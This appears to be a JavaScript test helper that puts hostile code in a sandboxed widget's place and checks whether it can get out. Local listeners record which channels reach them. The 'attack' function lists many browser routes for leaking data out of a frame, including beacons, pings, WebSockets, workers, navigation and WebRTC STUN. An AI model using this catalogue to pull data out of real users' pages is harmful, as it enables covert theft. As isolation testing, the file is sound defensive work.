// Puts somebody else's code in the widget's place, under the same headers and policy and in the same sandbox. The code tries every way out
// that a browser has, and a listener at the other end hears what gets out.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer as createSecureServer } from 'node:https';
import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { kWidgetScript } from './site.mjs';

/** Returns an address of this machine other than the loopback one, to which a browser might send no packets. */
const address = () =>
  Object.values(networkInterfaces())
    .flat()
    .find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '127.0.0.1';

/** Listens for whatever gets out. `heard` has the names of the ways by which something did. */
export class Listener {
  heard = new Set();

  static async start(t, tls) {
    const listener = new Listener();
    // The path of a request says which way it came. An upgrade comes from a WebSocket.
    const server = createSecureServer(tls, (request, response) => {
      listener.#hear(request);
      // The answer allows everything, so that only the browser's side can stop a request.
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html', 'Cross-Origin-Resource-Policy': 'cross-origin' });
      response.end();
    });
    server.on('upgrade', (request, socket) => {
      listener.#hear(request);
      socket.destroy();
    });
    const tcp = createServer((socket) => {
      listener.heard.add('preconnect');
      socket.destroy();
    });
    const udp = createSocket('udp4');
    udp.on('message', () => listener.heard.add('WebRTC'));
    for (const one of [server, tcp]) {
      one.listen(0, '127.0.0.1');
      await once(one, 'listening');
    }
    udp.bind(0, '0.0.0.0');
    await once(udp, 'listening');
    t.after(() => {
      server.close();
      server.closeAllConnections?.();
      tcp.close();
      udp.close();
    });
    const { port } = server.address();
    listener.places = {
      http: `https://127.0.0.1:${port}/`,
      socket: `wss://127.0.0.1:${port}/`,
      connection: `https://127.0.0.1:${tcp.address().port}/`,
      stun: `stun:${address()}:${udp.address().port}`,
    };
    return listener;
  }

  #hear({ url }) {
    // A window that was opened asks for this by itself.
    if (url !== '/favicon.ico') this.heard.add(url.slice(1));
  }
}

/**
 * Runs in the frame, and tells the page around it which ways it has tried. Navigation ends this code, and with it what has not got out yet, so it waits
 * until the page says `navigate`. With `onlyNavigation` it tries that way only.
 */
function attack(places, onlyNavigation) {
  const at = (way) => `${places.http}${way}`;
  // The policy allows only one name, which whoever comes first can take.
  const trust = window.trustedTypes?.createPolicy('selfcheck', { createScriptURL: (url) => url });
  const asScript = (url) => trust?.createScriptURL(url) ?? url;
  const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
  const inWorker = (code) => {
    const blob = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    return new Worker(asScript(blob));
  };
  const ways = {
    window: () => window.open(at('window')),
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open('POST', at('XMLHttpRequest'));
      request.send('x');
    },
    sendBeacon: () => navigator.sendBeacon(at('sendBeacon'), 'x'),
    ping: () => {
      const link = add('a', { href: '#', ping: at('ping') });
      link.click();
    },
    EventSource: () => new EventSource(at('EventSource')),
    WebSocket: () => new WebSocket(`${places.socket}WebSocket`),
    image: () => add('img', { src: at('image') }),
    background_image: () => {
      document.body.style.backgroundImage = `url(${at('background_image')})`;
    },
    style_sheet: () => add('link', { rel: 'stylesheet', href: at('style_sheet') }),
    font: () => new FontFace('x', `url(${at('font')})`).load(),
    video: () => add('video', { src: at('video'), preload: 'auto', autoplay: true, muted: true }),
    object: () => add('object', { data: at('object') }),
    script: () => add('script', { src: asScript(at('script')) }),
    import: () => import(at('import')),
    frame: () => add('iframe', { src: at('frame') }),
    form: () => add('form', { action: at('form'), method: 'post', target: '_self' }).submit(),
    prefetch: () => add('link', { rel: 'prefetch', href: at('prefetch') }),
    preconnect: () => add('link', { rel: 'preconnect', href: places.connection }),
    worker_fetch: () => inWorker(`fetch(${JSON.stringify(at('worker_fetch'))}, { mode: 'no-cors' })`),
    worker_script: () =>
      inWorker(`const trust = self.trustedTypes?.createPolicy('selfcheck', { createScriptURL: (url) => url });
        const url = ${JSON.stringify(at('worker_script'))};
        importScripts(trust?.createScriptURL(url) ?? url)`),
    top_navigation: () => {
      window.top.location.href = at('top_navigation');
    },
    WebRTC: async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: places.stun }] });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
    },
  };
  const run = () => {
    for (const way of onlyNavigation ? [] : Object.values(ways)) {
      try {
        // Ways that are stopped reject or throw.
        Promise.resolve(way()).catch(() => {});
      } catch {}
    }
    window.addEventListener('message', ({ data }) => {
      if (data === 'navigate') window.location.href = at('navigation');
    });
    window.parent.postMessage({ tried: Object.keys(ways).join() }, '*');
  };
  // A window needs a click before it opens.
  const button = add('button', { type: 'button', textContent: 'Try' });
  button.addEventListener('click', run);
}

/** Returns a function for `damage` of deploy(), which puts the attack in the place of the widget's script. */
export const putAttackIn = (places, onlyNavigation) => (site) =>
  site.changeScript('widget.html', kWidgetScript, () => `(${attack})(${JSON.stringify(places)}, ${onlyNavigation});`);
